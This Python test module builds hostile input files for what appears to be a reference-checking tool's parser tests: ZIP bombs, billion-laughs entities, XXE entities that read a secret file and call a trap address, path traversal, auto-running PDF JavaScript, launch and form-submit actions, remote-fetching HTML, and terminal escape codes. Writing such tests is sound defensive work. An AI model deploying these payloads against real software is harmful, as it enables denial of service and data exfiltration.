"""Hostile documents, one row each: what it is, and what must be said of it."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
from collections.abc import Callable, Iterator, Sequence
from itertools import pairwise
from pathlib import Path

from tests.hostile import pdfs
from tests.hostile.attempt import Case, Trap
from tests.hostile.names import NAMES
from tests.reading.builders import docx, packed, paragraph

Maker = Callable[[Path, Trap], Sequence[str]]
MB = 1024**2
_TEXT = "In document A/78/636 the Assembly is told of Security Council resolution 853 (1993). "
_LETTERS = "abcdefghij"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NOWHERE = (2,)  # nothing could be read


def _file(name: str, content: Callable[[Trap], bytes]) -> Maker:
    """A maker of one file."""

    def make(folder: Path, trap: Trap) -> Sequence[str]:
        (folder / name).write_bytes(content(trap))
        return [name]

    return make


def _refused(name: str, file: str, content: Callable[[Trap], bytes], says: str) -> Case:
    return Case(name, _file(file, content), f"{file}: {says}" if says.startswith('"') else says, _NOWHERE)


def _read(name: str, file: str, content: Callable[[Trap], bytes], *, is_slow: bool = False) -> Case:
    return Case(name, _file(file, content), is_slow=is_slow)


# --- Word ------------------------------------------------------------------------------------


def _entries(number: int) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        for name in range(number):
            archive.writestr(zipfile.ZipInfo(f"{name:x}"), b"")
    return stream.getvalue()


def _nested(levels: int) -> bytes:
    inner = b"\0" * 8 * MB
    for _ in range(levels):
        inner = packed({f"{number}.zip": inner for number in range(4)})
    return docx(paragraph(_TEXT), parts={"word/embeddings/more.zip": inner})


def _lying() -> bytes:
    """An archive whose table says 1 kB of a part that unpacks to 60 MB."""
    content = docx(parts={"word/document.xml": b" " * 60 * MB})
    at = content.index(b"PK\x01\x02")
    while content[at + 46 : at + 63] != b"word/document.xml":
        at = content.index(b"PK\x01\x02", at + 4)
    return content[: at + 24] + struct.pack("<I", 1000) + content[at + 28 :]


def _overlapping() -> bytes:
    """Many entries of the table that share one packed stream."""
    content = packed({"a" * 17: b"\0" * MB})
    table = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    row = content[table:end]
    rows = b"".join(row[:46] + b"word/document.xml" + row[63:] for _ in range(5_000))
    return content[:table] + rows + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 5_000, 5_000, len(rows), table, 0)


def _laughs() -> str:
    declared = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(_LETTERS)
    )
    return f'<!DOCTYPE x [{declared}]><x y="&j;">&j;</x>'


def _external(trap: Trap) -> bytes:
    entities = (
        f'<!DOCTYPE a SYSTEM "{trap.address}/a.dtd" [<!ENTITY % p SYSTEM "{trap.address}/p.dtd"> %p; '
        f'<!ENTITY b SYSTEM "{trap.secret.as_uri()}"><!ENTITY c SYSTEM "{trap.address}/c">]><a>&b;&c;</a>'
    )
    return docx(parts={"word/document.xml": entities})


def _remote(trap: Trap) -> bytes:
    """All that a Word file may fetch from elsewhere: template, pictures, frames, further documents, style sheets."""
    kinds = (
        "attachedTemplate",
        "image",
        "frame",
        "aFChunk",
        "subDocument",
        "oleObject",
        "header",
        "styles",
        "footnotes",
    )
    related = "".join(
        f'<Relationship Id="x{number}" Type="{_KIND}/{kind}" Target="{trap.address}/{kind}" TargetMode="External"/>'
        for number, kind in enumerate(kinds)
    )
    field = f"<w:fldSimple w:instr=' INCLUDETEXT \"{trap.address}/field\" '><w:r><w:t>x</w:t></w:r></w:fldSimple>"
    return docx(paragraph(_TEXT), f"<w:p>{field}</w:p>", relations=related)


def _leads_out(trap: Trap) -> bytes:
    """A main part outside of the archive: by going up, and by its full path."""
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    target = f"../../../../../../..{trap.secret}"
    return docx(
        parts={"_rels/.rels": rels.format(f'<Relationship Id="a" Type="{_KIND}/officeDocument" Target="{target}"/>')}
    )


def _elements(element: str, size: int) -> bytes:
    return docx(element * (size // len(element)) + paragraph(_TEXT) + _noise(size // 100))


def _noise(size: int) -> str:
    """Text that packs badly, so that the ratio of the archive looks harmless."""
    letters = random.Random(1).choices("abcdefghijklmnopqrstuvwxyz ", k=size)
    return paragraph("".join(letters))


def _deep(element: str, depth: int) -> bytes:
    return docx(f"<w:{element}>" * depth + paragraph(_TEXT) + f"</w:{element}>" * depth)


WORD = (
    _refused(
        "ZIP bomb by its ratio", "a.docx", lambda _: docx(parts={"word/document.xml": b" " * 60 * MB}), "ZIP bomb"
    ),
    _refused(
        "ZIP bomb in a part that nobody reads",
        "a.docx",
        lambda _: docx(paragraph(_TEXT), parts={"word/media/a.bin": b"\0" * 400 * MB}),
        "ZIP bomb",
    ),
    _read("ZIP archives in ZIP archives in a Word file, 4 levels", "a.docx", lambda _: _nested(4)),
    _refused("ZIP archive whose table lies about sizes", "a.docx", lambda _: _lying(), "damaged Word file"),
    _refused("5,000 entries of a ZIP archive over one stream", "a.docx", lambda _: _overlapping(), "ZIP bomb"),
    _refused("ZIP archive of 300,000 entries", "a.docx", lambda _: _entries(300_000), "entries"),
    _refused(
        "billion laughs (entities in entities)",
        "a.docx",
        lambda _: docx(parts={"word/document.xml": _laughs()}),
        "a.docx: ",
    ),
    _refused(
        "billion laughs in the table of relations",
        "a.docx",
        lambda _: docx(parts={"_rels/.rels": _laughs()}),
        "a.docx: ",
    ),
    _refused("external entities, of a file and of an address", "a.docx", _external, "document type"),
    _read("remote template, pictures, frames, fields", "a.docx", _remote),
    _refused("main part outside of the archive", "a.docx", _leads_out, "a.docx: "),
    _refused("60 MB of elements without text", "a.docx", lambda _: _elements("<w:p/>", 60 * MB), "a.docx: "),
    _refused(
        "60 MB of elements with properties",
        "a.docx",
        lambda _: _elements("<w:r><w:rPr><w:b/></w:rPr><w:t>a</w:t></w:r>", 60 * MB),
        "a.docx: ",
    ),
    _refused("100,000 tables in tables", "a.docx", lambda _: _deep("tbl", 100_000), "a.docx: "),
    _refused(
        "not the archive that it seems (every byte wrong)",
        "a.docx",
        lambda _: b"PK\x03\x04" + os.urandom(MB),
        "a.docx: ",
    ),
)

# --- PDF -------------------------------------------------------------------------------------


def _chained_pages(depth: int) -> dict[int, bytes]:
    """A tree of pages, so many nodes deep."""
    objects = pdfs.page()
    objects[2] = pdfs.pages([10], 1)
    for number in range(10, 10 + depth):
        objects[number] = pdfs.pages([number + 1], 1)
    objects[10 + depth] = objects.pop(3)
    return objects


def _forms_in_forms(levels: int, times: int) -> dict[int, bytes]:
    """Forms that each draw the next one many times over: the laughs of PDF."""
    objects = pdfs.page(b"/X10 Do " * times, resources=b"/XObject << /X10 10 0 R >>")
    for level in range(10, 10 + levels):
        inner = b"/X%d Do " % (level + 1) * times if level < 9 + levels else b"BT /F 9 Tf (A/78/636) Tj ET"
        inside = b"/Resources << /Font << /F 5 0 R >> /XObject << /X%d %d 0 R >> >>" % (level + 1, level + 1)
        objects[level] = pdfs.stream(inner, more=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + inside)
    return objects


def _acting(trap: Trap) -> bytes:
    """A file that would run, open and send things."""
    address = trap.address.encode()
    actions = (
        b"<< /S /JavaScript /JS (app.launchURL('%s/js')) >>" % address,
        b"<< /S /URI /URI (%s/uri) >>" % address,
        b"<< /S /Launch /F (%s) >>" % bytes(trap.secret),
        b"<< /S /SubmitForm /F << /FS /URL /F (%s/form) >> >>" % address,
        b"<< /S /GoToR /F (%s) /D [0 /Fit] >>" % bytes(trap.secret),
    )
    chain = b"".join(action.removesuffix(b">>") + b"/Next " for action in actions[:-1]) + actions[-1] + b" >>" * 4
    objects = pdfs.page()
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % chain
    objects[4] = b"<< /Length 99 /F << /FS /URL /F (%s/content) >> >>\nstream\n%s\nendstream" % (address, b" " * 99)
    objects[10] = pdfs.stream(b"BT /F 10 Tf 70 700 Td (A/78/636) Tj ET")
    objects[3] = objects[3].replace(b"/Contents 4 0 R", b"/Contents [4 0 R 10 0 R]")
    return pdfs.written(objects)


def _pdf(objects: dict[int, bytes], trailer: bytes = b"") -> Callable[[Trap], bytes]:
    return lambda _: pdfs.written(objects, trailer)


PDF = (
    _refused("tree of pages that holds itself", "a.pdf", _pdf({**pdfs.page(), 2: pdfs.pages([2], 1)}), "a.pdf: "),
    _refused(
        "two nodes of pages that hold each other",
        "a.pdf",
        _pdf({**pdfs.page(), 2: pdfs.pages([6], 9), 6: pdfs.pages([2], 9)}),
        "a.pdf: ",
    ),
    _refused("tree of pages 100,000 nodes deep", "a.pdf", lambda _: pdfs.written(_chained_pages(100_000)), "a.pdf: "),
    _refused(
        "one page named 100,000 times", "a.pdf", _pdf({**pdfs.page(), 2: pdfs.pages([3] * 100_000, 100_000)}), "pages"
    ),
    _read("a count of 2 billion pages", "a.pdf", _pdf({**pdfs.page(), 2: pdfs.pages([3], 2_000_000_000)})),
    _read("table of objects that leads back to itself", "a.pdf", _pdf(pdfs.page(), b"/Prev @XREF@")),
    _read("page of 2 million kilometres", "a.pdf", _pdf(pdfs.page(box=b"[0 0 1e13 1e13]"))),
    _read("page of no size, and of wrong numbers", "a.pdf", _pdf(pdfs.page(box=b"[0 0 0 nan]"))),
    _read("10 million objects", "a.pdf", lambda _: pdfs.with_many_objects(10_000_000)),
    _refused(
        "content that unpacks to 3 GB", "a.pdf", lambda _: pdfs.written(pdfs.page(b" " * 3 * 1024 * MB)), "a.pdf: "
    ),
    _read(
        "10 million letters on one line of a page",
        "a.pdf",
        _pdf(pdfs.page(b"BT /F 10 Tf (" + b"A/78/636 " * 1_200_000 + b") Tj ET")),
    ),
    _read(
        "3 million letters on one page",
        "a.pdf",
        _pdf(pdfs.page(b"BT /F 1 Tf 0 9 Td " + b"0 -.01 Td (A/78/636) Tj " * 400_000 + b" ET")),
    ),
    _refused("forms in forms, 10 to the power of 9", "a.pdf", _pdf(_forms_in_forms(9, 10)), "a.pdf: "),
    _read(
        "a form that draws itself",
        "a.pdf",
        _pdf(
            {
                **pdfs.page(b"BT /F 9 Tf (A/78/636) Tj ET /X Do", resources=b"/XObject << /X 10 0 R >>"),
                10: pdfs.stream(
                    b"/X Do",
                    more=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >>",
                ),
            }
        ),
    ),
    _refused("lists in lists, a million deep", "a.pdf", _pdf({**pdfs.page(), 1: b"[" * 1_000_000}), "a.pdf: "),
    _read("scripts, launches, forms and remote content", "a.pdf", _acting),
)

# --- HTML ------------------------------------------------------------------------------------


def _fetching(trap: Trap) -> bytes:
    """All that a browser would fetch."""
    at = trap.address
    return (
        f'<!doctype html><html manifest="{at}/m"><head><base href="{at}/">'
        f'<meta http-equiv=refresh content="0;url={at}/r">'
        f'<link rel=stylesheet href="{at}/s.css"><link rel=prefetch href="{at}/p"><script src="{at}/s.js"></script>'
        f'<style>@import "{at}/i.css"; body {{ background: url({at}/b) }}</style></head>'
        f"<body onload=\"fetch('{at}/f')\">"
        f'<p>{_TEXT}</p><img src="{at}/i"><iframe src="{at}/f"></iframe><object data="{at}/o"></object>'
        f'<embed src="{at}/e"><video poster="{at}/v" src="{at}/v"></video><a ping="{at}/p" href="{at}/a">a</a>'
        f'<svg><image href="{at}/svg"/></svg><form action="{at}/f"><input></form></body></html>'
    ).encode()


def _page(content: str) -> Callable[[Trap], bytes]:
    return lambda _: f"<!doctype html><html><body>{content}<p>{_TEXT}</p></body></html>".encode()


HTML = (
    _refused("a million elements in one another", "a.html", _page("<div>" * 1_000_000), "nested"),
    _refused("2 million links in links, never closed", "a.html", _page("<a href=x><b>" * 1_000_000), "a.html: "),
    _refused("3 million elements", "a.html", _page("<p>" * 3_000_000), "elements"),
    _read("1,000 tables in tables", "a.html", _page("<table><tr><td>" * 80 + "x" + "</td></tr></table>" * 80)),
    _read("one attribute of 9 MB", "a.html", _page(f'<p title="{"a" * 9 * MB}">x</p>')),
    _refused(
        "a million attributes",
        "a.html",
        _page(f"<p {' '.join(f'a{n}=1' for n in range(1_000_000))}>x</p>"),
        "attributes",
    ),
    _refused("a comment that never ends", "a.html", _page("<!--" * 2_000_000), "empty"),
    _read("250,000 links side by side", "a.html", _page('<a href="https://undocs.org/A/78/636">a</a> ' * 250_000)),
    _read(
        "2 million character references, wrong ones among them", "a.html", _page("&#x110000;&nosuch;&#0;&amp" * 500_000)
    ),
    _read("entities of a document type", "a.html", lambda _: f"<html>{_laughs()}<p>{_TEXT}</p></html>".encode()),
    _read("all that a browser would fetch", "a.html", _fetching),
    _read(
        "notes that lead to one another",
        "a.html",
        _page("".join(f'<p id="n{n}"><sup><a href="#n{(n + 1) % 999}">{n}</a></sup></p>' for n in range(999))),
    ),
)

# --- plain text ------------------------------------------------------------------------------


def _sparse(size: int) -> Maker:
    def make(folder: Path, _: Trap) -> Sequence[str]:
        with (folder / "a.txt").open("wb") as file:
            file.write(_TEXT.encode())
            file.truncate(size)
        return ["a.txt"]

    return make


def _full_of(unit: str) -> Callable[[Trap], bytes]:
    """A text as long as any that is read, of one piece again and again."""
    return lambda _: f"{_TEXT}{unit * ((8 * MB - 200) // len(unit))}".encode()


def _broken_utf8() -> bytes:
    """Every way to be wrong: cut sequences, overlong ones, halves of surrogates, beyond the last character."""
    wrong = (
        b"\xc3",
        b"\xe2\x80",
        b"\xf0\x9f\x98",
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xff",
        b"\x80",
    )
    return b" ".join(_TEXT.encode() + piece for piece in wrong)


TEXT = (
    Case("one line of 1 GB", _sparse(1024 * MB), "refcheck reads up to 32 MB", _NOWHERE),
    Case("file of 2 GB", _sparse(2048 * MB), "refcheck reads up to 32 MB", _NOWHERE),
    Case("file of 1 TB, nearly all of it holes", _sparse(1024 * 1024 * MB), "refcheck reads up to 32 MB", _NOWHERE),
    _refused("32 MB of words", "a.txt", lambda _: b"The members of the Council met. " * MB, "split it"),
    _read("one line of 8 MB, of one letter", "a.txt", lambda _: b"A" * 8 * MB),
    _read("8 MB of words without a citation", "a.txt", lambda _: b"The members of the Council met. " * (MB // 4)),
    _refused("8 MB of citations", "a.txt", _full_of(_TEXT), "references"),
    _refused("8 MB of “Ibid.”", "a.txt", _full_of("Ibid. "), "references"),
    _refused("8 MB of “op. cit.”", "a.txt", _full_of("op. cit., supra note 3 "), "references"),
    _refused("8 MB of headings", "a.md", _full_of("# x\n"), "headings"),
    _refused("8 MB of notes", "a.md", _full_of("x<sup>1</sup>\n\n<sup>1</sup> y\n\n"), "headings and notes"),
    _refused("8 MB of links", "a.md", _full_of("[a](http://a.example/) "), "links"),
    _read("8 MB of what begins like a symbol", "a.txt", _full_of("A/"), is_slow=True),
    _refused(
        "8 MB of titles of letters that break off", "a.txt", _full_of("Letter dated 1 April 2025 from "), "references"
    ),
    _read("8 MB of marks of distribution", "a.txt", _full_of("Distr.: General\n"), is_slow=True),
    _refused("8 MB of escapes", "a.md", _full_of("\\*"), "note marks"),
    _read("8 MB of resolutions in Arabic without a number", "a.txt", _full_of("قرار "), is_slow=True),
    _read("8 MB of blank lines", "a.txt", _full_of("\n")),
    _read("8 MB of opening brackets", "a.md", _full_of("[")),
    _read("broken UTF-8 of every kind", "a.txt", lambda _: _broken_utf8()),
    _refused(
        "halves of surrogates in UTF-16",
        "a.txt",
        lambda _: b"\xff\xfe" + _TEXT.encode("utf-16-le") + b"\x00\xd8a\x00",
        "UTF-16",
    ),
    _refused("random bytes", "a.txt", lambda _: random.Random(1).randbytes(MB), "a.txt: "),
    _refused("NUL bytes", "a.txt", lambda _: _TEXT.encode() + b"\0" * MB, "a.txt: "),
    _read(
        "commands to the terminal, and text that turns around",
        "a.txt",
        lambda _: (
            f"{_TEXT * 9}General Assembly resolution 48/114 of \x1b]0;owned\x07\x1b[2J 1 May 1901 and "
            "\u202eA/78/636\u2066 of \x9b31m"
            "Security Council resolution 853\u202e (1994), “S/RES/853\x1b[8m (1995)”"
        ).encode(),
    ),
)

TABLES: dict[str, tuple[Case, ...]] = {"Word": WORD, "PDF": PDF, "HTML": HTML, "text": TEXT, "names and folders": NAMES}


def cases() -> Iterator[tuple[str, Case]]:
    """All rows with the name of their table."""
    for name, rows in TABLES.items():
        for case in rows:
            yield name, case


def small() -> Iterator[tuple[str, bytes]]:
    """The rows that are quickly made, as files to be damaged further."""
    trap = Trap("http://127.0.0.1:9", Path("/nonexistent/secret.txt"))
    yield "a.docx", _remote(trap)
    yield "a.docx", _overlapping()
    yield "a.docx", docx(parts={"word/document.xml": _laughs()})
    yield "a.pdf", _acting(trap)
    yield "a.pdf", pdfs.written(pdfs.page(), b"/Prev @XREF@")
    yield "a.html", _fetching(trap)
    yield "a.txt", _broken_utf8()
